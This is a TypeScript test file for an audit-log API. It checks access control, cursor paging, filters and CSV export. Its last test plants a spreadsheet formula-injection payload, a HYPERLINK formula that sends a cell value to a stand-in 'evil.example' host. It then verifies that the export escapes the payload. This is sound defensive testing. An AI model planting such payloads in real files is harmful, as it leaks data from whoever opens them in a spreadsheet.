import { afterAll, beforeAll, expect, test } from 'vitest'
import { csvLine } from '#src/audit/csv.ts'
import { ids, signInToApi } from '../harness/api.ts'
import { type Cluster, startCluster } from '../harness/cluster.ts'

let cluster: Cluster
let api: Awaited<ReturnType<typeof signInToApi>>
beforeAll(async () => {
  cluster = await startCluster()
  api = await signInToApi(cluster)
})
afterAll(() => cluster.close())

const events = '/administration/audit-events'
const list = async (query: Record<string, string> = {}) =>
  (await api.call(`${events}?${new URLSearchParams(query)}`)).body as {
    items: { id: string; at: string; action: string; actor: { id: string; name: string }; outcome: string }[]
    nextCursor: string | null
  }

async function plant(action: string, count: number, details: object = {}, actor: string = ids.customer) {
  await cluster.sql(
    `insert into audit_event (at, action, actor, target, outcome, details)
     select '2026-01-01T00:00:00Z'::timestamptz + n * interval '1 microsecond', $1, $2, $3, 'done', $4 from generate_series(1, $5::int) n`,
    [action, actor, ids.support, details, count],
  )
}

test('UX-20 an administrator reads who did what to whom, newest first', async () => {
  const { items } = await list({ action: 'sign-in' })
  expect(items.map(({ actor }) => actor)).toEqual([
    { id: ids.customer, name: 'Clara Costa' },
    { id: ids.administrator, name: 'Ana Almeida' },
  ])
  const one = await api.call(`${events}/${items[0]?.id}`)
  expect([one.status, one.body]).toEqual([200, items[0]])
  expect((await api.call(`${events}/00000000-0000-7000-8000-00000000ffff`)).status).toBe(404)
  expect((await api.call('/administration/audit-actions')).body.items).toContain('sign-in')
})

test('a customer cannot read, export or ask for the actions', async () => {
  for (const path of [events, '/administration/audit-export', '/administration/audit-actions'])
    expect((await api.call(path, { token: api.customer })).status, path).toBe(403)
})

test('SV-17 pages neither skip nor repeat, also among entries of one millisecond and while new ones come', async () => {
  await plant('paged', 7)
  const seen: string[] = []
  let cursor: string | null = null
  do {
    const page = await list({ action: 'paged', limit: '3', ...(cursor && { cursor }) })
    seen.push(...page.items.map(({ id }) => id))
    cursor = page.nextCursor
    await cluster.sql(`insert into audit_event (action, outcome) values ('paged', 'done')`)
  } while (cursor)
  const planted = await cluster.sql<{ id: string }>(
    `select id from audit_event where action = 'paged' and at < '2026-01-02' order by at desc, id desc`,
  )
  expect(seen).toEqual(planted.map(({ id }) => id))
})

test('SV-18 SV-19 a cursor of another filter, and an unknown filter, are refused', async () => {
  await plant('other', 3)
  const { nextCursor } = await list({ action: 'other', limit: '2' })
  const query = new URLSearchParams({ action: 'paged', limit: '2', cursor: nextCursor as string })
  expect((await api.call(`${events}?${query}`)).status).toBe(400)
  const unknown = await api.call(`${events}?colour=red`)
  expect([unknown.status, unknown.body.errors[0].detail]).toEqual([400, expect.stringContaining('outcome')])
})

test('every filter leaves only what it names; people also go by their e-mail address', async () => {
  await plant('filtered', 2, {}, ids.administrator)
  await plant('filtered', 2)
  const count = async (query: Record<string, string>) =>
    (await list({ action: 'filtered', ...query })).items.length
  expect(await count({})).toBe(4)
  expect(await count({ actor: 'Admin@alicerce.test' })).toBe(2)
  expect(await count({ actor: ids.customer })).toBe(2)
  expect(await count({ actor: 'nobody@alicerce.test' })).toBe(0)
  expect(await count({ target: 'support@alicerce.test' })).toBe(4)
  expect(await count({ target: ids.customer })).toBe(0)
  expect(await count({ about: 'admin@alicerce.test' })).toBe(2)
  expect(await count({ about: ids.support })).toBe(4)
  expect(await count({ outcome: 'refused' })).toBe(0)
  expect(await count({ from: '2026-01-01T00:00:01Z' })).toBe(0)
  expect(await count({ to: '2026-01-01T00:00:01Z' })).toBe(4)
  expect(await count({ to: '2026-01-01T00:00:00Z' })).toBe(0)
})

test('an export honours the filters, has every entry, and is itself in the log', async () => {
  await plant('exported', 1_201)
  const { status, headers, text } = await api.call('/administration/audit-export?action=exported')
  expect([status, headers.get('content-type'), headers.get('content-disposition')]).toEqual([
    200,
    'text/csv; charset=utf-8',
    'attachment; filename="audit.csv"',
  ])
  const lines = text.trimEnd().split('\r\n')
  expect(lines).toHaveLength(1 + 1_201)
  expect(new Set(lines).size).toBe(1 + 1_201)
  for (const line of lines.slice(1)) expect(line).toContain('"exported"')
  const { items } = await list({ action: 'export-audit' })
  expect(items[0]).toMatchObject({
    actor: { id: ids.administrator },
    details: { action: 'exported' },
    address: expect.stringMatching(/127\.0\.0\.1/),
  })
})

test('what somebody made up does not run as a formula in a spreadsheet', async () => {
  const attack = `=HYPERLINK("https://evil.example/"&A1,"click")`
  await cluster.sql(
    `insert into audit_event (action, actor, target, outcome) values ('attack', $1, '@SUM(1)', 'refused')`,
    [attack],
  )
  const { text } = await api.call('/administration/audit-export?action=attack')
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example/""&A1,""click"")"`)
  expect(text).toContain(`"'@SUM(1)"`)
  for (const start of ['=', '+', '-', '@', '\t', '\r'])
    expect(csvLine([`${start}1+1`])).toBe(`"'${start}1+1"\r\n`)
  expect(csvLine(['a "b"', null, 'c,\nd'])).toBe('"a ""b""","","c,\nd"\r\n')
})
